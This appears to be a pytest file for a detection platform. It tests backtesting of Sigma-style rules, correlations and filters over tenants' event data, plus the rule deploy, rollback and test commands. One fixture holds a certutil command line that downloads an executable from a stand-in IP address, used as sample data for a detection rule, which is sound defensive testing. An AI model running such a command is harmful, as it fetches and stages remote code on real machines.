"""Run rules over a tenant's lake as the flows would, and survive being killed on the way."""

import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest

from deploy import backtesting
from deploy.backtest import DAY_US, Limits, backtest
from deploy.cli import run
from deploy.house import House, opened
from deploy.output import DONE, FAILED, WRONG_USE
from storage.backtests import (
    get_backtest,
    request_backtest,
    take_backtest,
    waiting_backtests,
)
from storage.database.rows import insert_lake_files
from storage.errors import InvalidRule
from storage.schema import EventBatch
from storage.settings import Settings
from storage.tenant import Actor, Role, Scope
from tests.detectors.streams import START_US, frame_of
from tests.shared import ROOT

RULE = """title: Odd tool
id: 11111111-2222-4333-8444-00000000000a
level: high
logsource: {product: windows, category: process_creation}
detection: {s: {Image|endswith: '\\odd.exe'}, condition: s}
"""
STORY = """---
title: Odd tool three times on one host
id: 11111111-2222-4333-8444-00000000000b
level: high
correlation:
  type: event_count
  rules: [11111111-2222-4333-8444-00000000000a]
  group-by: [host]
  timespan: 10m
  condition: {gte: 3}
"""
FILTER = """title: Not on pc1
id: 11111111-2222-4333-8444-00000000000c
logsource: {product: windows, category: process_creation}
filter:
  rules: [11111111-2222-4333-8444-00000000000a]
  selection: {device.hostname: pc1}
  condition: not selection
"""
ACME = Scope("acme", Actor("user", "ann"), frozenset({Role.ANALYST}))
UNTIL_US = START_US + 5 * DAY_US
PAST = (START_US - DAY_US, UNTIL_US)


def starts(tenant: str, hosts: dict[str, int], image: str = "C:\\t\\odd.exe") -> pl.DataFrame:
    """Give so many process starts a host, a minute apart, and as many of another program."""
    rows = [
        {
            "tenant_id": tenant,
            "time_us": START_US + n * 60_000_000 + number,
            "class_uid": 1007,
            "activity_id": 1,
            "metadata.product.name": "windows",
            "metadata.log_format": "sample",
            "device.hostname": host,
            "process.file.path": path,
        }
        for number, (host, count) in enumerate(hosts.items())
        for n in range(count)
        for path in (image, "C:\\Windows\\plain.exe")
    ]
    return frame_of(sorted(rows, key=lambda row: int(str(row["time_us"]))))


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    with opened(Settings(data_dir=tmp_path / "house")) as made:
        for number, (tenant, hosts) in enumerate(
            (("acme", {"pc1": 4, "pc2": 2}), ("bolt", {"pc9": 50}))
        ):
            made.database.create_tenant(tenant, tenant)
            batch = EventBatch.of(starts(tenant, hosts))
            files = made.lake.write(batch, "events", number, 0, len(batch) - 1)
            with made.database.writer() as tx:
                insert_lake_files(tx, files)
        yield made


def test_a_rule_is_counted_over_its_own_tenants_history(house: House) -> None:
    told = backtest(house, ACME, RULE, START_US - DAY_US, UNTIL_US)
    assert (told["hits"], told["events"], told["removed"], told["cut"]) == (6, 12, None, "")
    assert told["entities"] == [["host", "pc1", 4], ["host", "pc2", 2]]
    day = datetime.fromtimestamp(START_US / 1e6, UTC).date().isoformat()
    assert told["by_day"] == [[day, 6]]
    assert told["first"][0]["title"] == "Odd tool"
    assert backtest(house, ACME, RULE, UNTIL_US, UNTIL_US + DAY_US)["hits"] == 0


def test_a_correlation_counts_its_matches_and_not_its_parts(house: House) -> None:
    told = backtest(house, ACME, RULE + STORY, START_US - DAY_US, UNTIL_US)
    titles = {one["title"] for one in told["first"]}
    assert "Odd tool three times on one host" in titles
    alone = backtest(house, ACME, RULE, START_US - DAY_US, UNTIL_US)
    assert told["hits"] == alone["hits"] + 1


def test_a_rule_of_the_house_is_run_once_and_not_beside_itself(house: House) -> None:
    file = ROOT / "detectors" / "rules" / "process" / "certutil_as_downloader.yml"
    hits = backtest(house, ACME, file.read_text(), START_US - DAY_US, UNTIL_US)["hits"]
    assert hits == 0
    batch = EventBatch.of(certutil())
    files = house.lake.write(batch, "events", 9, 0, len(batch) - 1)
    with house.database.writer() as tx:
        insert_lake_files(tx, files)
    assert backtest(house, ACME, file.read_text(), START_US - DAY_US, UNTIL_US)["hits"] == 1


def certutil() -> pl.DataFrame:
    """Give one download by certutil."""
    row = {
        "tenant_id": "acme",
        "time_us": START_US,
        "class_uid": 1007,
        "activity_id": 1,
        "metadata.product.name": "windows",
        "metadata.log_format": "sample",
        "device.hostname": "pc1",
        "process.file.path": "C:\\Windows\\System32\\certutil.exe",
        "process.cmd_line": "certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe",
    }
    return frame_of([row])


def test_a_filter_tells_what_it_takes_away(house: House) -> None:
    with house.database.app(ACME) as tx:
        tx.execute(
            "INSERT INTO tenant_rules (tenant_id, rule_id, title, text, created_by)"
            " VALUES ('acme', '11111111-2222-4333-8444-00000000000a', 'Odd tool', %s, 'ann')",
            (RULE,),
        )
    told = backtest(house, ACME, FILTER, START_US - DAY_US, UNTIL_US)
    assert (told["hits"], told["removed"]) == (2, 4)


SCANS = """title: Two open holes on one host
id: 11111111-2222-4333-8444-00000000000d
level: high
correlation:
  type: event_count
  rules: [vulnerability]
  group-by: [host]
  timespan: 10m
  condition: {gte: 2}
"""


def test_a_correlation_over_claims_of_code_finds_them_in_the_past(house: House) -> None:
    rows = [
        {
            "tenant_id": "acme",
            "time_us": START_US + second,
            "class_uid": 2002,
            "activity_id": 1,
            "severity_id": 5,
            "device.hostname": host,
            "finding_info.uid": uid,
        }
        for second, (host, uid) in enumerate([("WEB-1", "a"), ("WEB-1", "b"), ("WEB-2", "a")])
    ]
    batch = EventBatch.of(frame_of(rows))
    with house.database.writer() as tx:
        insert_lake_files(tx, house.lake.write(batch, "events", 8, 0, len(batch) - 1))
    told = backtest(house, ACME, SCANS, *PAST)
    assert (told["hits"], told["entities"]) == (1, [["host", "web-1", 1]])
    assert told["cost_us"] > 0


def test_a_filter_over_claims_is_not_tried_on_events(house: House) -> None:
    text = FILTER.replace("windows, category: process_creation", "inopsio, category: finding")
    with pytest.raises(InvalidRule, match="says what it takes out"):
        backtest(house, ACME, text, *PAST)


def test_it_ends_where_it_was_bounded_and_says_so(house: House) -> None:
    told = backtest(house, ACME, RULE, START_US - DAY_US, UNTIL_US, limits=Limits(events=1))
    assert told["cut"].startswith("stopped after 12 events")
    with pytest.raises(InvalidRule, match="cannot run"):
        backtest(house, ACME, "title: x", START_US, UNTIL_US)


def ask(house: House, text: str = RULE) -> str:
    until = datetime.fromtimestamp(UNTIL_US / 1e6, UTC)
    with house.database.app(ACME) as tx:
        return request_backtest(ACME, tx, text, "Odd tool", 30, until)


def read(house: House, backtest_id: str) -> dict[str, object]:
    with house.database.app(ACME) as tx:
        return get_backtest(ACME, tx, backtest_id)


def test_what_was_asked_for_is_run_beside_everything_else(house: House) -> None:
    good, bad = ask(house), ask(house, "title: x")
    stop = threading.Event()
    server = threading.Thread(target=backtesting.serve, args=(house, stop))
    environment = {"INOPSIO_DATA_DIR": str(house.settings.data_dir)}
    before = {name: os.environ.get(name) for name in environment}
    os.environ |= environment
    try:
        server.start()
        for _ in range(300):
            if {read(house, one)["status"] for one in (good, bad)} <= {"done", "failed"}:
                break
            time.sleep(0.1)
    finally:
        stop.set()
        server.join()
        for name, value in before.items():
            os.environ.pop(name) if value is None else os.environ.update({name: value})
    done = read(house, good)
    assert (done["status"], done["events"]) == ("done", 12)
    assert isinstance(done["result"], dict)
    assert done["result"]["hits"] == 6
    failed = read(house, bad)
    assert failed["status"] == "failed"
    assert "cannot run" in str(failed["reason"])


def test_a_killed_run_is_taken_again_and_given_up_after_three(house: House) -> None:
    wanted = ask(house)
    words = [sys.executable, "-c", "import time\ntime.sleep(60)"]
    for attempt in range(1, 4):
        with house.database.app(ACME) as tx:
            assert take_backtest(tx, wanted)
        with subprocess.Popen(words) as child:
            child.send_signal(signal.SIGKILL)
        assert read(house, wanted)["status"] == "running"
        with house.database.writer() as tx:
            assert waiting_backtests(tx) == []
        with house.database.app(ACME) as tx:
            assert not take_backtest(tx, wanted)
            tx.execute("UPDATE backtests SET beat_at = now() - interval '2 minutes'")
        assert read(house, wanted)["attempts"] == attempt
        with house.database.writer() as tx:
            assert waiting_backtests(tx) == [("acme", wanted)]
    assert not backtesting.run(house, "acme", wanted)
    assert read(house, wanted)["status"] == "failed"


def test_the_command_deploys_rolls_back_and_back_tests(
    house: House, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    rules, home = tmp_path / "rules", ["--tenant", "acme", "--data", str(house.settings.data_dir)]
    rules.mkdir()
    (rules / "odd.yml").write_text(RULE)
    until = ["--until", (datetime.fromtimestamp(UNTIL_US / 1e6, UTC)).isoformat()]
    assert run(["rule", "backtest", str(rules / "odd.yml"), *home, *until, "--json"]) == DONE
    assert json.loads(capfd.readouterr().out)["hits"] == 6

    def deployed(*more: str) -> list[str]:
        assert run(["rule", "deploy", str(rules), *home, "--json", *more]) == DONE
        return [json.loads(line)["change"] for line in capfd.readouterr().out.splitlines()]

    assert deployed("--dry-run") == ["added"]
    assert deployed() == ["added"]
    assert deployed() == ["unchanged"]
    (rules / "odd.yml").write_text(RULE.replace("Odd tool", "Odder tool"))
    assert deployed() == ["changed"]
    (rules / "bad.yml").write_text("title: [")
    (rules / "zz.yml").write_text(RULE.replace("00a", "00d"))
    assert run(["rule", "deploy", str(rules), *home]) == WRONG_USE
    assert "bad.yml" in capfd.readouterr().err
    rule_id = "11111111-2222-4333-8444-00000000000a"
    assert run(["rule", "rollback", rule_id, "--to", "1", *home]) == DONE
    assert run(["rule", "versions", rule_id, *home, "--json"]) == DONE
    told = [json.loads(line) for line in capfd.readouterr().out.splitlines()]
    assert [(v["version"], v["title"]) for v in told] == [
        (3, "Odd tool"),
        (2, "Odder tool"),
        (1, "Odd tool"),
    ]
    assert run(["rule", "versions", "none", *home]) == WRONG_USE


def test_rules_are_tried_on_files_without_any_house(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    log = tmp_path / "log.jsonl"
    lines = [
        {"class_uid": 1007, "activity_id": 1, "time": START_US // 1000 + n}
        | {"metadata": {"product": {"name": "windows"}}, "device": {"hostname": "pc1"}}
        | {"process": {"file": {"path": f"C:\\t\\{name}.exe"}}}
        for n, name in enumerate(("odd", "even", "odd"))
    ]
    log.write_text("".join(json.dumps(line) + "\n" for line in lines))
    rule = tmp_path / "odd.yml"
    rule.write_text(RULE)
    words = ["rule", "test", str(rule), "--data", str(log)]
    assert run([*words, "--json"]) == DONE
    (row,) = (json.loads(line) for line in capfd.readouterr().out.splitlines())
    assert (row["count"], row["rule"]) == (2, "Odd tool")
    assert run([*words, "--expect", "2"]) == DONE
    assert run([*words, "--expect", "3"]) == FAILED
    assert "3 were expected" in capfd.readouterr().err
